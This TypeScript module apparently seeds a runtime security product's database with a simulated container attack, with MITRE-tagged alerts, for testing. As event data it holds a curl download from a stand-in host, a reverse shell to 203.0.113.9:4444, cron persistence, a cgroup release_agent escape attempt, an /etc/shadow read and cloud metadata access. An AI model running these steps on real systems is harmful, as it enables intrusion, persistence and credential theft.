import { zstdCompressSync } from "node:zlib";
import type { RuntimeEvent, Severity } from "@bulwark/model";
import {
  addNode,
  addResponse,
  addSensorUpgrade,
  connectNode,
  endResponse,
  endSensorUpgrade,
  findContainer,
  makeRuntimeDays,
  markUpgradeNode,
  type NewAlert,
  raiseAlerts,
  recordContainers,
  recordExposures,
  recordHealth,
  recordPrograms,
  type Store,
  type TenantQueries,
  writeBatches,
} from "@bulwark/store";
import { eventRow, targetOf } from "../gateway/event-row.ts";
import { runtimeEvents } from "../gateway/runtime-events.ts";
import { EVENT_TYPES, eventBatch } from "../gateway/wire.ts";

const SOCKET = 5;
const O_WRONLY = 1;
const ALL_CAPABILITIES = 2 ** 41 - 1;

/** What there is after an attack: a node, the container in it, the alert of the reverse shell. */
export interface SeededAttack {
  readonly nodeId: number;
  readonly containerId: number;
  readonly runtimeId: string;
  readonly alertId: number;
  readonly eventId: string;
}

interface Step {
  readonly event: number;
  readonly rule: string;
  readonly severity: Severity;
  readonly technique: readonly [id: string, name: string, tactic: string];
  readonly blocked?: boolean;
}

/** Which event raised which rule, in the order of time. */
const STEPS: readonly Step[] = [
  { event: 1, rule: "Shell started by a server program", severity: "high", technique: ["T1190", "", "initial-access"] },
  {
    event: 3,
    rule: "Program started with a socket as its input and output",
    severity: "critical",
    technique: ["T1059.004", "Unix Shell", "execution"],
  },
  { event: 5, rule: "Cron job written", severity: "high", technique: ["T1053.003", "Cron", "persistence"] },
  {
    event: 6,
    rule: "Release agent of a cgroup written",
    severity: "critical",
    technique: ["T1611", "Escape to Host", "privilege-escalation"],
    blocked: true,
  },
  {
    event: 8,
    rule: "Metadata service of the cloud contacted",
    severity: "medium",
    technique: ["T1552.005", "Cloud Instance Metadata API", "credential-access"],
  },
];

/**
 * Gives a tenant what a node would have told of an attack: a web server that starts a shell on a socket, which writes a cron job
 * and tries to leave its container.
 *
 * @param planted stands in every name that an attacker chooses
 */
export async function seedAttack(
  store: Store,
  tenantId: number,
  { now = new Date(), planted = "", hostname = "node-7" }: { now?: Date; planted?: string; hostname?: string } = {},
): Promise<SeededAttack> {
  await makeRuntimeDays(store, now);
  const runtimeId = `f00d${now.getTime().toString(16)}${"a".repeat(49)}`.slice(0, 64);
  const bytes = batchOf(runtimeId, planted, now);
  const events = runtimeEvents(eventBatch.decode(bytes)).filter((event) => event !== undefined);
  return store.tenant(tenantId, async (db) => {
    const nodeId = await addNode(db, {
      ...{ uid: `attack-${tenantId}-${now.getTime()}`, hostname: `${hostname}${planted}`, facts: {} },
      ...{ sensorVersion: "0.1.0", certificateSerial: `a${now.getTime()}`, now },
    });
    await connectNode(db, nodeId, {
      ...{ gateway: "seed", hostname: `${hostname}${planted}`, facts: nodeFacts(planted), sensorVersion: "0.1.0" },
      ...{ capabilities: capabilities(planted), policyRevision: 0xbeef, now },
    });
    await recordHealth(db, nodeId, { policyRevision: 0xbeef, facts: health(planted), now });
    const container = { ...events[0]!.container!, state: "running", arguments: ["nginx", "-g", planted] };
    await recordContainers(db, nodeId, [container], now);
    await recordPrograms(db, nodeId, [program(runtimeId, planted)], listeners(runtimeId, planted), now);
    const reached = { how: "host-network", address: "0.0.0.0", port: 80, containerPort: 80, protocol: "tcp" } as const;
    await recordExposures(db, nodeId, new Map([[runtimeId, [reached]]]));
    await seedUpgrade(db, nodeId, planted, now);
    const rows = events.map((event) => eventRow(event));
    const content = zstdCompressSync(bytes);
    const [written] = await writeBatches(
      db,
      [{ nodeId, epoch: "seed", sequence: 1, content, events: rows, losses: [] }],
      now,
    );
    const batchId = written?.batchId ?? 0;
    const alerts = STEPS.map((step) => alertOf(step, events[step.event]!, { nodeId, batchId, planted }));
    const raised = await raiseAlerts(db, alerts);
    const seen = await findContainer(db, nodeId, runtimeId);
    const shell = raised.find(({ index }) => index === 1);
    return { nodeId, containerId: seen?.id ?? 0, runtimeId, alertId: shell?.id ?? 0, eventId: `${batchId}-3` };
  });
}

/** An upgrade whose program was taken back. */
async function seedUpgrade(db: TenantQueries, nodeId: number, planted: string, now: Date): Promise<void> {
  const upgrade = {
    version: "0.2.0",
    wave: 10,
    stopOnFailure: true,
    askedBy: `admin${planted}`,
    nodeIds: [nodeId],
    now,
  };
  const id = await addSensorUpgrade(db, upgrade);
  const uid = `upgrade-${nodeId}`;
  const parameters = { version: "0.2.0", sha256: "b".repeat(64) };
  const responseId = await addResponse(db, {
    ...{ uid, nodeId, container: "", action: "upgrade", parameters, state: "sent", askedBy: "admin" },
    ...{ reason: "", now, expiresAt: now },
  });
  await markUpgradeNode(db, id, nodeId, { responseId });
  const detail = `sensor 0.2.0 was taken back: it reached no gateway within 60 s${planted}`;
  await endResponse(db, nodeId, { uid, state: "failed", detail, facts: { ...parameters, runs: "a" }, at: now });
  await endSensorUpgrade(db, id, "stopped", now);
}

function alertOf(
  { event: position, rule, severity, technique, blocked = false }: Step,
  event: RuntimeEvent,
  { nodeId, batchId, planted }: { nodeId: number; batchId: number; planted: string },
): NewAlert {
  const { process, container, ...own } = event;
  const lineage = [];
  for (let at = process; at !== null; at = at.parent) lineage.push({ ...at, parent: undefined });
  const [id, name, tactic] = technique;
  return {
    ...{ foldKey: `attack-${nodeId}-${rule}`, rule, severity, tags: [id], nodeId },
    title: `${rule} (file=${targetOf(event)}) | container=${container?.name} command=${process?.arguments.join(" ")}`,
    ...{ container: container?.id ?? "", containerName: container?.name ?? "", image: container?.image ?? "" },
    ...{ imageDigest: container?.imageDigest ?? "", namespace: container?.namespace ?? "", pod: container?.pod ?? "" },
    ...{ process: process?.name ?? "", exe: process?.exe ?? "", pid: process?.pid ?? 0 },
    ...{
      processStart: process?.startUs ?? 0,
      at: new Date(event.timeUs / 1_000),
      count: position,
      blocked,
      exposed: true,
    },
    facts: {
      ...{ event: own, container, lineage, fields: {}, tactics: [tactic], techniques: [{ id, name }] },
      description: `What the rule sees. ${planted}`,
      ...(severity === "high" ? { raisedFrom: "medium" } : {}),
      advice: `Isolate the container, then look at how the server was entered. ${planted}`,
    },
    ...{ batchId, position },
  };
}

/** Times are a second apart and end now. */
function batchOf(runtimeId: string, planted: string, now: Date): Uint8Array {
  const nowUs = now.getTime() * 1_000;
  const at = (secondsAgo: number) => nowUs - secondsAgo * 1_000_000;
  const inside = { container: 1, uid: 33, effectiveUid: 33, userName: "www-data" };
  const T = EVENT_TYPES;
  return eventBatch.encode({
    epoch: "seed",
    sequence: 1,
    containers: [containerOf(runtimeId, planted)],
    processes: [
      { pid: 900, startUs: 100, name: "containerd-shim", exe: "/usr/bin/containerd-shim-runc-v2" },
      { ...inside, pid: 910, startUs: 200, parent: 1, name: "nginx", exe: "/usr/sbin/nginx", arguments: ["nginx"] },
      { ...inside, pid: 915, startUs: 300, parent: 2, name: "sh", exe: "/bin/sh", arguments: ["sh", "-c", planted] },
      {
        ...{ ...inside, pid: 917, startUs: 400, parent: 3, name: `curl${planted}`, exe: "/usr/bin/curl" },
        arguments: ["curl", "-so", "/tmp/.x", `http://drop.example.net/x${planted}`],
      },
      {
        ...{ ...inside, pid: 921, startUs: 500, parent: 3, name: ".x", exe: `/tmp/.x${planted}`, exeDrifted: true },
        ...{ stdin: SOCKET, stdout: SOCKET, stderr: SOCKET, arguments: ["/tmp/.x", "203.0.113.9", "4444", planted] },
      },
    ],
    events: [
      { type: T.EXECVE, timeUs: at(50), process: 2 },
      { type: T.EXECVE, timeUs: at(40), process: 3 },
      {
        ...{ type: T.DNS, timeUs: at(36), process: 4, dnsName: `drop.example.net${planted}`, dnsType: "A" },
        dnsAnswers: ["203.0.113.20"],
      },
      { type: T.EXECVE, timeUs: at(30), process: 5 },
      {
        ...{ type: T.CONNECT, timeUs: at(29), process: 5, family: 4, protocol: "tcp" },
        ...{ remoteAddress: "203.0.113.9", remotePort: 4_444, localAddress: "10.0.0.5", localPort: 40_112 },
      },
      { type: T.OPEN, timeUs: at(20), process: 5, path: `/etc/cron.d/x${planted}`, flags: O_WRONLY, upperLayer: true },
      { type: T.BLOCKED, timeUs: at(10), process: 5, path: `/sys/fs/cgroup/x/release_agent${planted}`, result: -1 },
      { type: T.OPEN, timeUs: at(8), process: 5, path: "/etc/shadow", result: -13, count: 3 },
      {
        ...{ type: T.CONNECT, timeUs: at(5), process: 5, family: 4, protocol: "tcp" },
        ...{ remoteAddress: "169.254.169.254", remotePort: 80 },
      },
    ],
  });
}

function containerOf(id: string, planted: string) {
  return {
    ...{ id, runtime: "containerd", name: `shop${planted}`, image: `registry.example.org/shop/web:1.4${planted}` },
    ...{ imageDigest: `sha256:${"5".repeat(64)}`, labels: { team: `web${planted}`, [`planted${planted}`]: "1" } },
    ...{ privileged: true, capabilities: ALL_CAPABILITIES, hostNetwork: true, user: planted },
    mounts: [
      { source: "/var/run/docker.sock", destination: `/run/docker.sock${planted}`, type: "bind", writable: true },
      { source: "", destination: "/dev/shm", type: "tmpfs", writable: false },
    ],
    ...{ addresses: ["10.0.0.5"], startedUs: Date.now() * 1_000, namespace: planted, pod: planted },
  };
}

function program(container: string, planted: string) {
  const exe = `/usr/sbin/nginx${planted}`;
  return { container, exe, name: "nginx", userName: `www${planted}`, arguments: `nginx ${planted}`, processes: 3 };
}

function listeners(container: string, planted: string) {
  const place = { container, protocol: "tcp", exe: `/usr/sbin/nginx${planted}` };
  return [
    { ...place, address: "0.0.0.0", port: 80, name: "nginx", kind: "web", product: `nginx${planted}`, exposed: true },
    { ...place, address: "::", port: 5_432, name: "postgres", kind: "database", product: "PostgreSQL", exposed: true },
    { ...place, address: "127.0.0.1", port: 9_000, name: "php-fpm", kind: "other", product: "", exposed: false },
  ] as const;
}

function nodeFacts(planted: string) {
  return {
    ...{ osName: `Debian GNU/Linux 13${planted}`, kernelRelease: "6.12.9-cloud-amd64", architecture: "x86_64" },
    ...{ cpus: 4, memoryBytes: 8_300_000_000, addresses: ["192.0.2.7"], kubernetesNode: planted },
  };
}

function capabilities(planted: string) {
  return [
    { id: "exec", state: "full", means: "BTF tracepoint sched_process_exec", detail: "" },
    {
      id: "file-change",
      state: "reduced",
      means: "BTF tracepoint sys_exit",
      detail: `names as the caller gave them${planted}`,
    },
    { id: "exec-block", state: "full", means: "signal before the first instruction", detail: "" },
    { id: "network-block", state: "missing", means: "", detail: `no unified hierarchy${planted}` },
  ];
}

function health(planted: string) {
  return {
    ...{ residentBytes: 11_400_000, cpuShare: 0.021, degradation: 1, degradationReason: `opens of shop${planted}` },
    ...{ spoolBytes: 1_200_000, spoolLimitBytes: 268_435_456 },
    ...{ seen: { execve: 18_220, open: 902_113 }, lost: { open: 12 }, filtered: { open: 880_004 } },
    gaps: [
      { blockId: "b1c2d3", rule: "Cron job written", why: `connections cannot be refused on this kernel${planted}` },
    ],
    tampering: [`kill of the sensor by pid 4711${planted}`],
  };
}
